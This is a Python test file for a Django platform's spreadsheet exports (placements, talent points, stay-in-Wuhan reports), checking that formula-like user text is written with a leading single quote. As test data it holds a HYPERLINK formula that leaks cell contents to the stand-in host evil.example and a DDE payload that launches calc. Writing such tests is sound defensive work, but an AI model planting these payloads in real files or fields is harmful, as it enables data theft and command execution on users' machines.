"""Downloads never turn what people typed into spreadsheet formulas (CSV / formula injection): a slot title,
a company name or a graduate's industry that starts with =, +, -, @, a tab or a carriage return is written
as text with a leading single quote, in every XLSX and CSV the platform offers; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from alumni.services import outcome_create
from config.exports import safe_cell
from tests import factories as f
from tests.access import client_for

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def xlsx_cells(response) -> list[list]:
    assert response.status_code == 200, response.content[:300]
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} holds a formula: {cell.value!r}"
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_every_formula_trigger_is_neutralised_with_a_single_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -3, 0.5, None, "普通文本", "a=b", ""])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_placements_export_writes_a_formula_like_slot_title_and_company_as_text(world):
    world.company.name = "+cmd|' /C calc'!A0"
    world.company.save(update_fields=["name"])
    slot = f.SlotFactory(company=world.company, base=world.base, title=EVIL)
    f.PlacementFactory(student=world.student, slot=slot, status="active")

    header, *rows = xlsx_cells(client_for(world.teacher.user).get("/api/v1/placements/export/"))

    row = dict(zip([str(h) for h in header], rows[0], strict=True))
    assert "'" + EVIL in rows[0]
    assert "'+cmd|' /C calc'!A0" in rows[0]
    assert row[next(h for h in row if "学号" in h)] == world.student.student_number


def test_the_talent_points_csv_writes_a_formula_like_company_name_as_text(world):
    world.company.name = "@SUM(1+1)*cmd"
    world.company.save(update_fields=["name"])
    year = timezone.localdate().year

    rows = csv_cells(client_for(world.hr.user).get("/api/v1/talent-points/", {"year": year, "format": "csv"}))

    assert rows[1][1] == "'@SUM(1+1)*cmd"
    assert rows[1][2] == "0"  # the points are still a number


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_stay_in_wuhan_downloads_write_a_formula_like_industry_as_text(world, fmt):
    year = timezone.localdate().year
    outcome_create(
        institution=world.school, student_number="S1", full_name="甲", graduation_year=year, status="employed",
        work_city="武汉", in_wuhan=True, industry="-2+3", reported_on=timezone.localdate(),
    )  # fmt: skip
    response = client_for(world.analyst).get("/api/v1/stay-report/", {"by": "industry", "format": fmt})

    rows = csv_cells(response) if fmt == "csv" else xlsx_cells(response)

    assert rows[1][0] == "'-2+3"
    assert str(rows[1][1]) == "1"
    if fmt == "xlsx":
        assert rows[1][1] == 1  # a number in the sheet, not text
